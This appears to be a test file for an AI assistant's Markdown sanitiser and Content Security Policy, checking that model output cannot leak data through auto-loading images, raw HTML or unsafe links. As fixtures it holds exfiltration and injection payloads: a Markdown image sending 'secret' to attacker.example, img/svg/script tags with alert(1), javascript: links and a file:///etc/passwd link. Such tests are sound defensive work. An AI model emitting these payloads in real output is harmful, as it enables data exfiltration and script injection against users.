"""The sanitiser every surface shows model output and document text through
(``assistant.safe_markdown``), the CSP the server sends, and the config field
that lets images through: fast tests, no browser (tests/test_browser_exfiltration.py
checks the same in chromium)."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from assistant.safe_markdown import LINK_REL, escape_html, literal_markdown, render_markdown

SECRET_IMAGE = "![x](https://attacker.example/?d=secret)"
RAW_IMG = "<img src=https://attacker.example/raw.png onerror=alert(1)>"
CSS_URL = '<div style="background:url(https://attacker.example/c)">styled</div>'
IFRAME = '<iframe src="https://attacker.example/frame"></iframe>'


class Elements(HTMLParser):
    """The start tags of an HTML fragment with their attributes, as a browser's parser sees them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def named(self, tag: str) -> list[dict[str, str | None]]:
        return [attrs for t, attrs in self.tags if t == tag]


def fetching(html: str) -> list[str]:
    """Every address the fragment would make a browser fetch by itself (not on a click)."""
    out = []
    for tag, attrs in Elements(html).tags:
        for name in ("src", "srcset", "poster", "background", "data"):
            if attrs.get(name):
                out.append(f"{tag}.{name}={attrs[name]}")
        out += [f"{tag}.style" for name in attrs if name == "style"]
    return out


def test_images_become_links_showing_their_full_address():
    html = render_markdown(f"Look: {SECRET_IMAGE} and ![](https://attacker.example/p.png \"t\")")
    assert fetching(html) == []
    links = Elements(html).named("a")
    assert [a["href"] for a in links] == ["https://attacker.example/?d=secret", "https://attacker.example/p.png"]
    assert all(a["rel"] == LINK_REL and a["target"] == "_blank" for a in links)
    assert "[image: x] https://attacker.example/?d=secret</a>" in html
    assert "[image] https://attacker.example/p.png</a>" in html


def test_reference_images_and_images_inside_links_are_not_loaded_either():
    html = render_markdown("![logo][r] and [![in](https://attacker.example/in.png)](https://shop.example/)\n\n"
                           "[r]: https://attacker.example/ref.png")
    assert fetching(html) == []
    assert "https://attacker.example/ref.png" in html and "https://attacker.example/in.png" in html
    # the image inside a link is text in that link, never a second (nested) link
    assert [a["href"] for a in Elements(html).named("a")] == ["https://attacker.example/ref.png",
                                                              "https://shop.example/"]


def test_an_image_from_an_allowed_origin_is_kept():
    html = render_markdown("![chart](https://cdn.example.com/c.png) ![x](https://cdn.example.com.evil.example/c.png)"
                           " ![y](http://cdn.example.com/c.png)", image_origins=("https://CDN.example.com/",))
    images = Elements(html).named("img")
    assert [(i["src"], i["alt"]) for i in images] == [("https://cdn.example.com/c.png", "chart")]
    assert images[0]["referrerpolicy"] == "no-referrer"
    # a look-alike host and the same host over another scheme are other origins
    assert "[image: x] https://cdn.example.com.evil.example/c.png" in html
    assert "[image: y] http://cdn.example.com/c.png" in html


def test_data_and_relative_images_are_not_loaded():
    html = render_markdown("![a](data:image/png;base64,iVBORw0KGgo=) ![b](/gradio_api/file=x.png)")
    assert fetching(html) == []
    assert "[image: a] (embedded in the text)" in html and "[image: b] /gradio_api/file=x.png" in html


@pytest.mark.parametrize("raw", [RAW_IMG, CSS_URL, IFRAME, "<script>alert(1)</script>",
                                 "<svg onload=alert(1)></svg>", '<a href="https://x.example" onclick="y">z</a>',
                                 "<video poster=https://attacker.example/v.png></video>",
                                 "<link rel=stylesheet href=https://attacker.example/s.css>"])
def test_raw_html_is_shown_as_text(raw):
    html = render_markdown(f"Before {raw} after\n\n{raw}\n")
    tags = {t for t, _ in Elements(html).tags}
    assert tags <= {"p", "a", "br"}, tags
    assert fetching(html) == []
    assert all(set(a) <= {"href", "rel", "target", "title"} for a in Elements(html).named("a"))
    assert escape_html(raw.split(" ")[0]) in html  # the user sees what was written


def test_links_carry_rel_and_unsafe_schemes_are_not_links():
    html = render_markdown("[docs](https://docs.example.com/a_b), <https://auto.example/x> and "
                           "[js](javascript:alert(1)) [v](vbscript:x) [f](file:///etc/passwd)")
    links = Elements(html).named("a")
    assert [a["href"] for a in links] == ["https://docs.example.com/a_b", "https://auto.example/x"]
    assert all(a["rel"] == "noopener noreferrer nofollow" and a["target"] == "_blank" for a in links)
    assert links[0]["title"] == "https://docs.example.com/a_b"  # the address shows on hover
    assert "javascript:" not in re.sub(r"\[js\]\(javascript:alert\(1\)\)", "", html)


def test_bare_addresses_become_links_without_the_sentence_punctuation():
    html = render_markdown("See https://shop.example/help?q=1. Or (https://w.example/a_(b)) `https://code.example`")
    assert [a["href"] for a in Elements(html).named("a")] == ["https://shop.example/help?q=1",
                                                              "https://w.example/a_(b)"]
    assert "<code>https://code.example</code>" in html  # code stays code


def test_normal_markdown_is_intact():
    html = render_markdown("**Refunds** take *five* days.\n\n- one\n- two\n\n1. first\n\n"
                           "`a < b` and\n\n```python\nif a < b:\n    print('<img src=x>')\n```\n\n"
                           "| a | b |\n|---|---|\n| 1 | 2 |\n\nline one\nline two ~~old~~")
    for piece in ("<strong>Refunds</strong>", "<em>five</em>", "<ul>\n<li>one</li>", "<ol>\n<li>first</li>",
                  "<code>a &lt; b</code>", '<pre><code class="language-python">if a &lt; b:\n    print(',
                  "<table>", "<td>1</td>", "line one<br />\nline two", "<s>old</s>"):
        assert piece in html, piece
    assert render_markdown("") == ""


def test_literal_markdown_forms_nothing():
    text = f"{SECRET_IMAGE} [a](https://x.example) https://bare.example www.x.example a@b.example **b** `c` {RAW_IMG}"
    out = literal_markdown(text)
    assert "<" not in out and "https://" not in out and "www." not in out and "a@b" not in out
    # no ASCII punctuation is left unescaped (outside the three entities), so no Markdown syntax forms
    bare = re.sub(r"\\.", "", re.sub(r"&(lt|gt|amp);", "", out))
    assert re.findall(r"[!-/:-@\[-`{-~]", bare) == []
    # every escape is one a Markdown renderer turns back into the character: the text reads as written
    assert re.sub(r"\\(.)", r"\1", out).replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&") == text


def test_csp_allows_only_the_server_and_the_configured_image_origins():
    from assistant.web.server import content_security_policy

    policy = dict(d.split(" ", 1) for d in content_security_policy(("https://cdn.example.com",),
                                                                    ("https://shop.example.com",)).split("; "))
    assert policy["img-src"] == "'self' data: https://cdn.example.com"
    assert policy["connect-src"] == "'self'" and policy["frame-src"] == "'self'"
    assert policy["default-src"] == "'self'" and policy["object-src"] == "'none'"
    assert policy["frame-ancestors"] == "'self' https://shop.example.com"
    assert "frame-ancestors *" in content_security_policy((), ("*",))


def test_allowed_image_origins_is_validated():
    from assistant.config import AppConfig
    from assistant.errors import ConfigError

    assert AppConfig().allowed_image_origins == ()
    config = AppConfig(allowed_image_origins=["https://CDN.example.com/", "http://127.0.0.1:8000"])
    assert config.allowed_image_origins == ("https://cdn.example.com", "http://127.0.0.1:8000")
    assert AppConfig(allowed_image_origins="https://a.example, https://b.example").allowed_image_origins == (
        "https://a.example", "https://b.example")
    for bad in ("*", "https://cdn.example.com/images", "ftp://cdn.example.com", "cdn.example.com"):
        with pytest.raises(ConfigError, match="allowed_image_origins"):
            AppConfig(allowed_image_origins=(bad,))
